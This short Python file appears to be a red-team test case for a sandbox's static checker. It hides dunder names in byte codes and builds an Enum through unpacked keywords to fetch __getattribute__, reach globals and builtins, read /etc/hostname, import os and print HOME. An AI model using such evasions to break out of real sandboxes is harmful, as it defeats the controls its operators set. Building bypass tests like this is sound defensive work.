# family: red team, round 37 (calls._enum_call/made_name: Enum(**{"value": ..., "names": ...}) names the class at run time; the check reads only value=/names= keywords written out)
import copy
import enum


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    lookup = classmethod(enum.Enum(**{"value": dunder("getattribute"), "names": "A B"}))


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
